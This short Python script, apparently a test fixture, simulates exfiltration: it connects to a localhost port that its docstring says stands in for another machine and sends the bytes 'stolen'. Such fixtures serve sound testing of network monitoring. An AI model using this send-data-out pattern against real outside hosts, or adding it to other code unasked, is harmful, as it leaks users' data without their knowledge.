"""Send something to another machine, for which a port of this one stands."""

import json
import socket
import sys

socket.create_connection(("127.0.0.1", json.loads(sys.argv[1])["port"]), 5).sendall(b"stolen")
